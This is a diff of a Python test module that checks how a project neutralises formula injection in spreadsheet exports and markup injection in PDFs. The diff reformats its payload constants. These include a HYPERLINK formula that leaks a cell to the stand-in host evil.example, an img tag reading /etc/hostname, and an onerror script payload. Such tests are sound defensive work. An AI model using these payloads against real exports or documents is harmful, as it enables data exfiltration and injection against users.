@@ -1,4 +1,4 @@
-"""Issue 11: formula injection in exports, markup injection in PDFs (ticcoop.exports, ticcoop.pdfs)."""
+"""Issue 11: formula injection in exports, markup injection in PDFs (exports, pdfs)."""
 
 from __future__ import annotations
 
@@ -23,7 +23,11 @@ from ticcoop.proficiency.tests import factories as pf
 from ticcoop.testing import factories
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"x")'
-PAYLOADS = ['<img src="/etc/hostname">', '<a href="http://evil.example/">x</a>', '"><img src=x onerror=alert(1)>']
+PAYLOADS = [
+    '<img src="/etc/hostname">',
+    '<a href="http://evil.example/">x</a>',
+    '"><img src=x onerror=alert(1)>',
+]
 
 
 def test_neutralise_follows_the_owasp_rule() -> None:
